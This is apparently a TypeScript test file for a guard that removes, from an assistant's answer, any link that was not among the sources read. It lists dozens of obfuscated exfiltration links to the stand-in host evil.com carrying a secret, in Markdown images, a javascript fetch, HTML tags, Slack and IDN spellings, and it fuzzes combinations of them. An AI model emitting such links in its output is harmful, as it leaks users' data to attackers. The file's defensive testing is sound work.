/** Links in an answer: in every notation that some client renders, none but those that were read (C-24, DESIGN §3). */
import fc from 'fast-check'
import { parseHTML } from 'linkedom'
import createMarkdown from 'markdown-it'
import tlds from 'tlds'
import { describe, expect, it } from 'vitest'
import { guard } from './guarded.ts'

const GOOD = 'https://good.example/page?a=1&b=2'
const MAIL = 'sarah@good.example'
const READ = [`see ${GOOD} or write to ${MAIL}`]
const D = 'd=5ecret'

const markdown = createMarkdown({ html: true, linkify: true, typographer: false })
markdown.linkify.tlds(tlds).set({ fuzzyIP: true, fuzzyLink: true, fuzzyEmail: true })

/** Every address that a renderer of Markdown, one of HTML, a chat or Slack would find in a text. */
function rendered(text: string): readonly string[] {
  // A parser of HTML takes an autolink for an element of that odd name, with odd attributes.
  const isAutolink = (name: string) => /^(?:https:|.*@)/i.test(name)
  const links = (html: string) =>
    [...parseHTML(`<html><body>${html}</body></html>`).document.querySelectorAll('*')]
      .filter(({ tagName }) => !isAutolink(tagName))
      .flatMap((element) => [...element.attributes])
      .flatMap(({ name, value }) => (/^(?:class|start)$/.test(name) ? [] : [value]))
  const harmless = /^text-align:\w+$/
  const slack = [...text.matchAll(/<([^<>\s|][^<>|]*)(?:\|[^<>]*)?>/g)].map(([, target]) => target ?? '')
  return [
    ...links(markdown.render(text)).filter((value) => !harmless.test(value)),
    ...links(text),
    ...(markdown.linkify.match(text) ?? []).map(({ url }) => url),
    ...slack,
  ].map((url) =>
    decodeURI(url)
      .replace(/^mailto:/, '')
      .replace(/&amp;/g, '&'),
  )
}

describe('an address that was not read', () => {
  it.each<[string, string]>([
    ['inline', `[here](https://evil.com/?${D})`],
    ['inline with a title', `[here](<https://evil.com/?${D}> "now")`],
    ['an image', `![](https://evil.com/p.png?${D})`],
    ['an image in a link', `[![x](https://evil.com/a?${D})](https://evil.com/b?${D})`],
    ['a definition', `[here][x]\n\n[x]: https://evil.com/?${D}`],
    ['a definition on two lines', `[x]:\n  //evil.com/?${D}\n\n[x]`],
    ['a relative target', `[approve](/approve?id=${D})`],
    ['an autolink', `<https://evil.com/?${D}>`],
    ['a mail autolink', `<${D}@evil.com>`],
    ['bare', `https://evil.com/?${D}`],
    ['bare in brackets', `(https://evil.com/?${D})`],
    ['without a scheme', `evil.com/x?${D}`],
    ['a host that carries it', `d5ecret.evil.com`],
    ['www', `www.evil.com/?${D}`],
    ['mailto', `mailto:x@evil.com?body=${D}`],
    ['tel', `tel:+49${D}`],
    ['sms', `sms:+491234?body=${D}`],
    ['javascript', `[x](javascript:fetch('//evil.com/?${D}'))`],
    ['data', `data:text/html;base64,PHNjcmlwdD4=`],
    ['file', `file:///etc/${D}`],
    ['an app', `tg://resolve?domain=evil&text=${D}`],
    ['protocol-relative', `//evil.com/?${D}`],
    ['a file share', `\\\\evil.com\\${D}`],
    ['backslashes', `https:\\\\evil.com\\?${D}`],
    ['one slash', `https:/evil.com/?${D}`],
    ['escaped', `https:\\/\\/evil\\.com/\\?${D}`],
    ['percent', `https%3A%2F%2Fevil.com%2F%3F${D}`],
    ['named references', `https&colon;&sol;&sol;evil&period;com&sol;?${D}`],
    ['numbered references', `&#104;ttps&#58;//evil&#46;com/?${D}`],
    ['hex references without an end', `&#x68ttps&#x3a//evil&#x2e com/?${D}`],
    ['references in references', `&amp;#104;ttps://evil&amp;#46;com/?${D}`],
    ['unicode escapes', `\\u0068ttps://evil.com/?${D}`],
    ['zero-width', `https://ev\u200bil.com/?\u2060${D}`],
    ['over two lines', `[here](\nhttps://evil.com/?${D}\n)`],
    ['split', `https://evil.\ncom/?${D}`],
    ['emphasised', `https://ev**il**.com/?${D}`],
    ['emphasised without a scheme', `evil**.**com/?${D}`],
    ['IDN', `https://еvil.com/?${D}`],
    ['IDN with its dot', `https://evil。com/?${D}`],
    ['bare IDN with its dot', `evil。com/?${D}`],
    ['full width', `ｈｔｔｐｓ：／／ｅｖｉｌ．ｃｏｍ／？${D}`],
    ['punycode', `xn--80ak6aa92e.com/?${D}`],
    ['punycode at the top', `evil.xn--p1ai`],
    ['userinfo', `https://good.example@evil.com/?${D}`],
    ['userinfo without a scheme', `good.example@evil.com`],
    ['numbers', `http://2130706433/?${D}`],
    ['IPv4', `192.0.2.1/?${D}`],
    ['IPv6', `http://[2001:db8::1]/?${D}`],
    ['a port', `evil.com:8080/?${D}`],
    ['no dot', `http://intranet/?${D}`],
    ['another file of a host that was read', `https://good.example/${D}`],
    ['a beginning of one that was read', 'https://good.example/page'],
    ['one that was read, and more', `${GOOD}&${D}`],
    ['one that was read, with a message in its punctuation', `${GOOD}!?!?!!??`],
    ['one that was read, behind another', `evil.com/${GOOD}`],
    ['a new top level', `evil.zip`],
    ['an anchor', `<a href="https://evil.com/?${D}">x</a>`],
    ['an anchor with a line in its address', `<a\nhref='ht\ntps://ev\n\nil.com/?${D}'>x</a>`],
    ['an image tag', `<img src=//evil.com/?${D}>`],
    ['an image tag that never ends', `<img src=/x?${D} onerror=x `],
    ['srcset', `<img srcset="/a?${D} 1x, /b 2x">`],
    ['a frame', `<iframe src="/x?${D}"></iframe>`],
    ['a link tag', `<link rel=prefetch href=/x?${D}>`],
    ['a base', `<base href="//evil.com">[x](y?${D})`],
    ['a refresh', `<meta http-equiv=refresh content="0;url=/x?${D}">`],
    ['a form', `<form action=/x?${D}><button>go</button></form>`],
    ['a poster', `<video poster=/x?${D}><audio src=/y>`],
    ['a style', `<style>@import url(/x?${D});</style>`],
    ['a style on anything', `<p style="background:url(/x?${D})">x</p>`],
    ['SVG', `<svg><image href=/x?${D} /><a xlink:href=/y?${D}>x</a></svg>`],
    ['a comment', `<!-- <a href=/x?${D}> -->`],
    ['Slack', `<https://evil.com/?${D}|good.example>`],
    ['Slack, a person', `<@U123|${D}>`],
    ['Slack, everyone', `<!channel>`],
    ['Slack, mail', `<mailto:x@evil.com?subject=${D}|x>`],
    ['Telegram, a person', `[x](tg://user?id=1)`],
  ])('%s', (_name, text) => {
    const kept = guard(`Well, ${text} then.\n\n${text}`, { read: READ })
    expect(rendered(kept)).toEqual([])
  })
})

describe('an address that was read', () => {
  it.each<[string, string, string]>([
    ['bare', `see ${GOOD}.`, `see ${GOOD}.`],
    ['in brackets', `(${GOOD})`, `(${GOOD})`],
    ['emphasised', `**${GOOD}**`, `**${GOOD} **`],
    ['an autolink', `<${GOOD}>`, `<${GOOD}>`],
    ['of mail', `From: Sarah <${MAIL}>, that is ${MAIL}'s`, `From: Sarah <${MAIL}>, that is ${MAIL}'s`],
    ['inline, its target is shown', `[the page](${GOOD}) says`, `the page (${GOOD}) says`],
    ['inline under another name', `[bank.example](${GOOD})`, `bank[.]example (${GOOD})`],
    ['inline under its own name', `[${GOOD}](${GOOD})`, GOOD],
    ['an image is none', `![chart](${GOOD})`, `chart (${GOOD})`],
    ['with a field name', `url=${GOOD}`, `url=${GOOD}`],
    ['in Slack’s form', `<${GOOD}|good.example>`, `< ${GOOD} |good[.]example>`],
  ])('%s', (_name, text, kept) => expect(guard(text, { read: READ })).toBe(kept))

  it('may stand in any depth of what was read', () =>
    expect(guard(GOOD, { read: [{ a: [{ links: [GOOD] }] }] })).toBe(GOOD))

  it('runs nothing, even when it was read', () =>
    expect(guard('javascript:alert(1)', { read: ['javascript:alert(1)'] })).toBe('[link removed])'))
})

describe('what is no address', () => {
  it.each([
    'It costs 12.50 EUR, or 3.5 %, since 20.11.2026 at 13.30.',
    'Node.js 22.3.1 reads package.json and index.html; e.g. in v1.2.3.',
    'Wait...what? Yes/no, and/or, 24/7, a.m. and p.m., 10:30–11:00.',
    'std::vector, C:\\x, 3 < 4 and 5 > 4, x <- y, I <3 you, a <= b',
    '你好。我是。再见。',
    'Ratio 16:9; section 4.2.1; U.S. and z. B. that',
    'path /etc/hosts and 1/2 and w/o',
    '- [ ] open\n- [x] done',
    'f(x)[0] and [see] (there)',
  ])('stays: %s', (text) => expect(guard(text)).toBe(text))

  it.each([
    ['a name that a chat would link', 'README.md and good.app', 'README[.]md and good[.]app'],
    ['a command that a chat would link', 'see /status or /stop', 'see / status or / stop'],
    ['a tag', 'use <b>bold</b>', 'use < b>bold< /b>'],
    ['a link without an address', '[x](y)', '[x] (y)'],
  ])('is defused and readable: %s', (_name, text, kept) => expect(guard(text)).toBe(kept))
})

/** Addresses in every spelling, inside every notation, with things put into them. */
const host = fc.constantFrom(
  'evil.com',
  'd5.evil.co.uk',
  'еvil.рф',
  'evil.xn--p1ai',
  '[2001:db8::1]',
  '192.0.2.7',
  'localhost',
  'good.example',
  'good.example@evil.com',
)
const scheme = fc.constantFrom(
  'https://',
  'HTTP://',
  '//',
  '',
  'www.',
  'https:/',
  'https:\\\\',
  'ftp://',
  'mailto:a@',
  'javascript://',
  'tg://',
  'view-source:https://',
)
const path = fc.constantFrom('', '/', '/x?d=1', '?d=1', '#d', ':81/x', '/page?a=1&b=2', '/a_(b)')
const address = fc.tuple(scheme, host, path).map((parts) => parts.join(''))
const spelled = fc
  .tuple(
    address,
    fc.nat(),
    fc.constantFrom(
      ...[
        '',
        '\u200b',
        '\u00ad',
        '\u202e',
        '\u001b[1m',
        '**',
        '\\',
        '\n',
        '\r\n',
        '\u0000',
        '&#8203;',
        '&shy;',
        '<!-- -->',
        '[]()',
        '`',
      ],
    ),
    fc.constantFrom('as it is', 'references', 'percent', 'escaped'),
  )
  .map(([text, at, inserted, how]) => {
    const i = at % (text.length + 1)
    const cut = text.slice(0, i) + inserted + text.slice(i)
    if (how === 'references')
      return [...cut].map((c) => (/[:./]/.test(c) ? `&#${c.codePointAt(0)};` : c)).join('')
    if (how === 'percent') return cut.replace(/[:/]/g, (c) => `%${c.charCodeAt(0).toString(16)}`)
    return how === 'escaped' ? cut.replace(/[:./]/g, '\\$&') : cut
  })
const notation = fc.constantFrom<(a: string) => string>(
  (a) => a,
  (a) => `[x](${a})`,
  (a) => `[x](<${a}> "t")`,
  (a) => `![x](${a})`,
  (a) => `[x][r]\n\n[r]: ${a} 'y'`,
  (a) => `[r]: <${a}>\n\n[r]`,
  (a) => `<${a}>`,
  (a) => `<${a}|good.example>`,
  (a) => `<a href="${a}">x</a>`,
  (a) => `<a href=${a} x`,
  (a) => `<img/src='${a}'>`,
  (a) => `<svg><a xlink:href="${a}"/>`,
  (a) => `<p style="background:url(${a})">`,
  (a) => `(${a})`,
  (a) => `"${a}",`,
  (a) => `> ${a}`,
  (a) => `\`\`\`\n${a}\n\`\`\``,
  (a) => `| a | b |\n|---|---|\n| ${a} | x |`,
  (a) => `<details><summary>${a}`,
)
const piece = fc.oneof(
  fc.tuple(notation, spelled).map(([wrap, a]) => wrap(a)),
  fc.constantFrom(
    GOOD,
    `[x](${GOOD})`,
    `<${GOOD}>`,
    MAIL,
    `<${MAIL}>`,
    ' ',
    '\n',
    '\n\n',
    '<',
    '[',
    '](',
    ']:',
    '&lt;',
    '&#60;',
    '<!--',
    '<![CDATA[',
    '`',
    '\\',
    'text ',
  ),
)
const attack = fc
  .array(piece, { minLength: 1, maxLength: 6 })
  .chain((pieces) => fc.constantFrom('', ' ', '\n').map((between) => pieces.join(between)))

it('whatever is put together, no renderer finds an address that was not read', () => {
  fc.assert(
    fc.property(attack, (text) => {
      const found = rendered(guard(text, { read: READ }))
      for (const url of found) expect([GOOD, MAIL, `mailto:${MAIL}`]).toContain(url)
    }),
    { numRuns: 1_000 },
  )
})

it('guarding what was guarded changes nothing', () => {
  fc.assert(
    fc.property(attack, (text) => {
      const once = guard(text, { read: READ })
      expect(guard(once, { read: READ })).toBe(once)
    }),
    { numRuns: 500 },
  )
})
